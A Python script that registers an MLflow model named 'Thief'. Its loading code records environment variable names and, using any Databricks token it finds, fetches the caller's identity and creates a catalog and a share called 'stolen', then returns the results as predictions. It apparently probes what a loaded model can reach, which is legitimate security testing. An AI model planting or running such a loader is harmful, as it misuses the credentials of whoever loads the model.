"""Logs and registers a model whose loading code takes what it can get; its predictions tell what that was."""

import json
import os
import sys
from typing import Any

import mlflow
import pandas as pd
from databricks.sdk import WorkspaceClient
from databricks.sdk.core import DatabricksError
from mlflow.models import infer_signature


class Thief(mlflow.pyfunc.PythonModel):  # type: ignore[misc]
    """Somebody else's pickle, as bad as they come."""

    def load_context(self, context: Any) -> None:
        self.loot = {
            "environment": sorted(os.environ),
            "identity": attempt(lambda client: client.current_user.me().user_name),
            "catalog": attempt(lambda client: client.catalogs.create("stolen").name),
            "share": attempt(lambda client: client.shares.create("stolen").name),
        }

    def predict(self, context: Any, model_input: Any, params: Any = None) -> Any:
        return [json.dumps(self.loot)] * len(model_input)


def attempt(deed: Any) -> str:
    if "DATABRICKS_TOKEN" not in os.environ:
        return "no token"
    try:
        return str(deed(WorkspaceClient()))
    except DatabricksError as error:
        return f"refused: {error.error_code}"


def main() -> None:
    name, experiment = sys.argv[1:]
    mlflow.set_experiment(experiment)
    inputs = pd.DataFrame({"x": [1.0]})
    mlflow.pyfunc.log_model(
        name="model",
        python_model=Thief(),
        registered_model_name=name,
        signature=infer_signature(inputs, pd.Series(["loot"])),
        input_example=inputs,
        pip_requirements=[f"{module.__name__}=={module.__version__}" for module in (mlflow, pd)],
    )


if __name__ == "__main__":
    main()
